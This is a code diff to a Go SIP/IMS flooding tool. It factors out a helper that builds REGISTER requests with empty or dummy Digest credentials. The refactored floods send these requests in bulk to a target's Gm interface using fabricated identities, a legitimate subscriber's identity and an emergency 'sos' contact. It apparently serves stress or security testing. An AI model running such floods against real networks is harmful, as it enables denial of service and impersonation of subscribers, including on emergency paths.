@@ -20,8 +20,7 @@ var floods = []flood{
 		func(f *flooding) error {
 			return f.datagrams(f.target.Gm, func(n int64) string {
 				impi := fmt.Sprintf("99999%010d@%s", n, f.target.Domain)
-				return f.request("REGISTER", "sip:"+f.target.Domain, n, "<sip:"+impi+">", "Contact: <sip:x@127.0.0.1:9>", "Expires: 600",
-					`Authorization: Digest username="`+impi+`", realm="`+f.target.Domain+`", nonce="", uri="sip:`+f.target.Domain+`", response=""`)
+				return f.register(n, impi, "sip:"+impi, "<sip:x@127.0.0.1:9>", "")
 			})
 		},
 	},
@@ -31,8 +30,7 @@ var floods = []flood{
 		func(f *flooding) error {
 			s := f.target.Honest[0]
 			return f.datagrams(f.target.Gm, func(n int64) string {
-				return f.request("REGISTER", "sip:"+f.target.Domain, n, "<"+s.IMPUs[0]+">", "Contact: <sip:x@127.0.0.1:9>", "Expires: 600",
-					`Authorization: Digest username="`+s.IMPI+`", realm="`+f.target.Domain+`", nonce="", uri="sip:`+f.target.Domain+`", response=""`)
+				return f.register(n, s.IMPI, s.IMPUs[0], "<sip:x@127.0.0.1:9>", "")
 			})
 		},
 	},
@@ -93,8 +91,7 @@ var floods = []flood{
 		func(f *flooding) error {
 			return f.datagrams(f.target.Gm, func(n int64) string {
 				impi := fmt.Sprintf("99997%010d@%s", n, f.target.Domain)
-				return f.request("REGISTER", "sip:"+f.target.Domain, n, "<sip:"+impi+">", "Contact: <sip:x@127.0.0.1:9;sos>", "Expires: 600",
-					`Authorization: Digest username="`+impi+`", realm="`+f.target.Domain+`", nonce="x", uri="sip:`+f.target.Domain+`", response="x"`)
+				return f.register(n, impi, "sip:"+impi, "<sip:x@127.0.0.1:9;sos>", "x")
 			})
 		},
 	},
@@ -168,6 +165,13 @@ func (f *flooding) request(method, uri string, n int64, to string, more ...strin
 		"From: <sip:x@y>;tag=1", "To: " + to, fmt.Sprintf("Call-ID: %s-%d-%s", method, n, f.name), "CSeq: 1 " + method,
 	}, more...)
 	return strings.Join(append(l, "Content-Length: 0", "", ""), "\r\n")
+}
+
+// register writes a stranger's REGISTER of a user; digest stands for nonce and response.
+func (f *flooding) register(n int64, impi, impu, contact, digest string) string {
+	domain := f.target.Domain
+	return f.request("REGISTER", "sip:"+domain, n, "<"+impu+">", "Contact: "+contact, "Expires: 600",
+		fmt.Sprintf(`Authorization: Digest username="%s", realm="%s", nonce="%s", uri="sip:%s", response="%s"`, impi, domain, digest, domain, digest))
 }
 
 func (f *flooding) datagrams(to netip.AddrPort, build func(n int64) string) error {
